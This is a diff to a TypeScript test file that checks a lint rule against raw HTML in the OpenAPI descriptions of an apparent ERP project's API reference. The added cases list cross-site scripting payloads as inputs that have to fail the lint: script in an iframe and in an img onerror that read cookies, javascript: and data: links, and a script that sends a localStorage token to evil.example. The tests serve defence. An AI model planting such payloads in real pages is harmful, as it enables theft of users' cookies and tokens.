@@ -8,13 +8,15 @@ import { lintSpec } from "../../scripts/lib/redocly.mjs";
  * Descriptions speak to the API's users (they are shown in the API reference and as JSDoc of the generated types);
  * where a fact comes from goes into `x-iwerp-provenance` or a YAML comment. redocly.yaml's rule
  * `rule/no-provenance-in-descriptions` keeps maintainers' notes out of every description.
+ * Redoc renders a description's Markdown as HTML, raw HTML included, with its `sanitize` off (Redocly CLI 2's
+ * build-docs fails with it on): `rule/no-html-in-descriptions` keeps raw HTML and script links out.
  */
 
 const ROOT = path.resolve(import.meta.dirname, "../..");
 let root: string;
 
 beforeAll(async () => {
-  root = await mkdtemp(path.join(tmpdir(), "iwerp-provenance-"));
+  root = await mkdtemp(path.join(tmpdir(), "iwerp-descriptions-"));
   for (const entry of ["openapi", "redocly.yaml"]) await cp(path.join(ROOT, entry), path.join(root, entry), { recursive: true });
 });
 afterAll(() => rm(root, { recursive: true, force: true }));
@@ -48,5 +50,32 @@ describe("maintainers' notes stay out of descriptions", () => {
     expect(String(error)).toContain("rule/no-provenance-in-descriptions");
     expect(String(error)).toContain("openapi/components/schemas/ChatroomParticipant.yaml");
     expect(String(error)).toContain("x-iwerp-provenance");
+  }, 60_000);
+});
+
+describe("descriptions carry no raw HTML, since the API reference shows them as HTML", () => {
+  test.each([
+    // Runs in the built page, CSP and all: the frame's inline script inherits the page's 'unsafe-inline'.
+    'Her name. <iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>',
+    "Her name. <img src=x onerror=alert(document.cookie)>",
+    "Her name.\n\n<script>fetch('https://evil.example/?' + localStorage.token)</script>",
+    "Her name, `<b>` is code but this is not: </b>",
+    "Her name. <!-- a comment hides -->",
+    "Her [profile](javascript:alert(1)).",
+    "Her [profile]( DATA:text/html;base64,PHNjcmlwdD4=).",
+  ])("a description %j fails the lint, naming the rule, the file and what to write", async (text) => {
+    await describeNickname(text);
+
+    const error = await lintSpec({ root }).then(() => undefined, (e: unknown) => e);
+
+    expect(String(error)).toContain("rule/no-html-in-descriptions");
+    expect(String(error)).toContain("openapi/components/schemas/ChatroomParticipant.yaml");
+    expect(String(error)).toContain("put markup in backticks");
+  }, 60_000);
+
+  test("markup in backticks, an autolink, a less-than sign and a Markdown link pass", async () => {
+    await describeNickname("Shown as `<b>name</b>` at `https://<tenant>.iw-erp.de`, see <https://iw-erp.de>; 1 < 2, [docs](https://iw-erp.de).");
+
+    await expect(lintSpec({ root })).resolves.toMatch(/no errors, no warnings/);
   }, 60_000);
 });
